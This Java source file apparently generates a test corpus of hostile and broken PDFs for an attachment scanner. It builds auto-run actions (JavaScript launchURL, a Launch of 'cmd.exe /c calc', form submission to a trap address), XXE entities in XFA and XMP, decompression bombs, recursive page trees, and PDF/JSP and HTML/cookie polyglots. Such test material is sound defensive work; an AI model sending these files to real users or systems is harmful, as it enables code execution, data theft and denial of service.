package vn.langnghe.attachments.corpus;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

/** PDFs that mean harm, or are broken. */
final class HostilePdfs {

	private static final int MANY = 100_000;

	private static final int PAGES = 2_000;

	/** Where a file would like the reader to go. */
	private final String trap;

	HostilePdfs(String trap) {
		this.trap = trap;
	}

	List<Sample> all() {
		return List.of(pdf("PDF with a password", HostilePdfs::encrypted),
				pdf("PDF cut off in the middle", HostilePdfs::cutOff),
				pdf("PDF of a head alone", () -> ascii("%PDF-1.7\n")),
				pdf("PDF of a head and an end", () -> ascii("%PDF-1.7\n%%EOF\n")),
				pdf("PDF with noise inside", HostilePdfs::noise),
				pdf("PDF that runs JavaScript when opened",
						() -> opening("/S/JavaScript/JS(app.launchURL\\('" + this.trap + "'\\);)")),
				pdf("PDF that starts a program", () -> opening("/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>")),
				pdf("PDF that goes to an address", () -> opening("/S/URI/URI(" + this.trap + ")")),
				pdf("PDF that sends a form away", () -> opening("/S/SubmitForm/F<</FS/URL/F(" + this.trap + ")>>")),
				pdf("PDF that opens a document elsewhere",
						() -> opening("/S/GoToR/F<</FS/URL/F(" + this.trap + ")>>/D[0/Fit]")),
				pdf("PDF with a program packed inside", HostilePdfs::embeddedProgram),
				pdf("PDF with a PDF in a PDF", HostilePdfs::nested),
				pdf("PDF whose picture lies at an address", this::remoteStream),
				pdf("PDF with a form as XML that names an entity elsewhere", this::xfa),
				pdf("PDF whose description names an entity elsewhere", this::xmp),
				pdf("PDF whose tree of pages has no end", HostilePdfs::endlessPages),
				pdf("PDF whose pages are nested ten thousand deep", HostilePdfs::deepPages),
				pdf("PDF with a hundred thousand lists in lists",
						() -> RawPdf.page("/X " + "[".repeat(MANY) + "]".repeat(MANY), "", RawPdf.words("x")).bytes()),
				pdf("PDF whose drawing draws itself", HostilePdfs::drawsItself),
				pdf("PDF that unpacks to 50 MB", HostilePdfs::bomb),
				pdf("PDF that unpacks twice", HostilePdfs::doubleBomb),
				pdf("PDF that draws for hours", HostilePdfs::hanging),
				pdf("PDF whose tables of contents point at each other", HostilePdfs::endlessTable),
				pdf("PDF with a page of a thousand kilometres",
						() -> RawPdf.page("", "/MediaBox[0 0 2000000000 2000000000]", RawPdf.words("to")).bytes()),
				pdf("PDF with a page of no size",
						() -> RawPdf.page("", "/MediaBox[0 0 0 0]", RawPdf.words("nho")).bytes()),
				pdf("PDF with a picture of 900 million dots", HostilePdfs::hugePicture),
				pdf("PDF of two thousand pages, all the same", HostilePdfs::manyPages),
				pdf("PDF with an archive behind it", HostilePdfs::withZip),
				pdf("PDF behind a page of HTML", HostilePdfs::behindHtml));
	}

	private static Sample pdf(String what, Sample.Content content) {
		return new Sample(what, "giay-to.pdf", true, content);
	}

	private static byte[] ascii(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

	private static byte[] plain() {
		return RawPdf.page("", "", RawPdf.words("Giay bien nhan")).bytes();
	}

	private static byte[] opening(String action) {
		return RawPdf
			.page("/OpenAction<</Type/Action" + action + ">>", "/AA<</O<</Type/Action" + action + ">>>>",
					RawPdf.words("Mo ra"))
			.bytes();
	}

	private static byte[] encrypted() throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (PDDocument document = new PDDocument()) {
			document.addPage(new PDPage());
			StandardProtectionPolicy policy = new StandardProtectionPolicy("chu", "mo", new AccessPermission());
			policy.setEncryptionKeyLength(256);
			document.protect(policy);
			document.save(bytes);
		}
		return bytes.toByteArray();
	}

	private static byte[] cutOff() {
		byte[] whole = RawPdf.page("", "", RawPdf.words("x").repeat(2000)).bytes();
		return Arrays.copyOf(whole, whole.length / 2);
	}

	private static byte[] noise() {
		byte[] noise = new byte[50_000];
		new Random(7).nextBytes(noise);
		return OfficeFiles.join(ascii("%PDF-1.4\n"), noise, ascii("\n%%EOF\n"));
	}

	private static byte[] embeddedProgram() {
		return RawPdf.page("/Names<</EmbeddedFiles<</Names[(x.exe) 6 0 R]>>>>", "", RawPdf.words("Kem theo"))
			.object("<</Type/Filespec/F(x.exe)/UF(../../x.exe)/EF<</F 7 0 R>>>>")
			.stream("/Type/EmbeddedFile", ascii("MZ this is a program"))
			.bytes();
	}

	private static byte[] nested() {
		byte[] inside = plain();
		for (int depth = 0; depth < 20; depth++) {
			inside = RawPdf.page("/Names<</EmbeddedFiles<</Names[(x.pdf) 6 0 R]>>>>", "", RawPdf.words("Trong nua"))
				.object("<</Type/Filespec/F(x.pdf)/EF<</F 7 0 R>>>>")
				.stream("/Type/EmbeddedFile", inside)
				.bytes();
		}
		return inside;
	}

	private byte[] remoteStream() {
		return RawPdf.page("", "/Resources<</XObject<</I 6 0 R>>/Font<</F1 5 0 R>>>>", "q 100 0 0 100 0 0 cm /I Do Q")
			.stream("/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F("
					+ this.trap + ")>>", new byte[0])
			.bytes();
	}

	private byte[] xfa() {
		return RawPdf.page("/AcroForm<</Fields[]/XFA 6 0 R>>", "", RawPdf.words("Mau don"))
			.stream("", ascii("<!DOCTYPE x [<!ENTITY e SYSTEM \"" + this.trap + "\">]><xdp:xdp xmlns:xdp=\""
					+ "http://ns.adobe.com/xdp/\"><template><field name=\"a\"><value>&e;</value></field></template></xdp:xdp>"))
			.bytes();
	}

	private byte[] xmp() {
		return RawPdf.page("/Metadata 6 0 R", "", RawPdf.words("Mo ta"))
			.stream("/Type/Metadata/Subtype/XML",
					ascii("<!DOCTYPE x [<!ENTITY e SYSTEM \"" + this.trap
							+ "\">]><x:xmpmeta xmlns:x=\"adobe:ns:meta/\">"
							+ "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description "
							+ "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>&e;</dc:title></rdf:Description>"
							+ "</rdf:RDF></x:xmpmeta>"))
			.bytes();
	}

	private static byte[] endlessPages() {
		return new RawPdf().object("<</Type/Catalog/Pages 2 0 R>>")
			.object("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>")
			.bytes();
	}

	private static byte[] deepPages() {
		RawPdf pdf = new RawPdf().object("<</Type/Catalog/Pages 2 0 R>>");
		for (int depth = 2; depth < 10_000; depth++) {
			pdf.object("<</Type/Pages/Kids[" + (depth + 1) + " 0 R]/Count 1>>");
		}
		return pdf.object("<</Type/Page/MediaBox[0 0 595 842]>>").bytes();
	}

	private static byte[] drawsItself() {
		return RawPdf.page("", "/Resources<</XObject<</X 6 0 R>>>>", "/X Do")
			.stream("/Type/XObject/Subtype/Form/BBox[0 0 10 10]/Resources<</XObject<</X 6 0 R>>>>", ascii("/X Do"))
			.bytes();
	}

	private static RawPdf withContent(String filter, byte[] content) {
		return new RawPdf().object("<</Type/Catalog/Pages 2 0 R>>")
			.object("<</Type/Pages/Kids[3 0 R]/Count 1>>")
			.object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents 4 0 R>>")
			.stream("/Filter " + filter, content);
	}

	private static byte[] bomb() {
		return withContent("/FlateDecode", RawPdf.packed("          ", 5_000_000)).bytes();
	}

	private static byte[] doubleBomb() {
		return withContent("[/FlateDecode/FlateDecode]", RawPdf.packed(RawPdf.packed("          ", 5_000_000))).bytes();
	}

	private static byte[] hanging() {
		RawPdf pdf = RawPdf.page("", "/Resources<</XObject<</X 6 0 R>>>>", "/X Do");
		for (int next = 7; next < 20; next++) {
			pdf.stream("/Type/XObject/Subtype/Form/BBox[0 0 10 10]/Resources<</XObject<</X " + next + " 0 R>>>>",
					ascii("/X Do ".repeat(10)));
		}
		return pdf.stream("/Type/XObject/Subtype/Form/BBox[0 0 10 10]", ascii("0 0 m 9 9 l S")).bytes();
	}

	private static byte[] endlessTable() {
		String pdf = "%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\n"
				+ "endobj\n";
		return ascii(pdf + "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 3/Root 1 0 R/Prev " + pdf.length()
				+ ">>\nstartxref\n" + pdf.length() + "\n%%EOF\n");
	}

	private static byte[] hugePicture() {
		return RawPdf.page("", "/Resources<</XObject<</I 6 0 R>>>>", "q 500 0 0 500 0 0 cm /I Do Q")
			.stream("/Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceGray/BitsPerComponent 1"
					+ "/Filter/FlateDecode", RawPdf.packed("\0", 112_500_000))
			.bytes();
	}

	private static byte[] manyPages() {
		return new RawPdf().object("<</Type/Catalog/Pages 2 0 R>>")
			.object("<</Type/Pages/Kids[" + "3 0 R ".repeat(PAGES) + "]/Count " + PAGES + ">>")
			.object("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>")
			.stream("", ascii(RawPdf.words("Trang")))
			.object("<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
			.bytes();
	}

	private static byte[] withZip() throws IOException {
		return OfficeFiles.join(plain(), new Zip().with("x.jsp", "<% out.println(1); %>").bytes());
	}

	private static byte[] behindHtml() {
		return OfficeFiles.join(ascii("<html><script>alert(document.cookie)</script><!-- "), plain(),
				ascii(" --></html>"));
	}

}
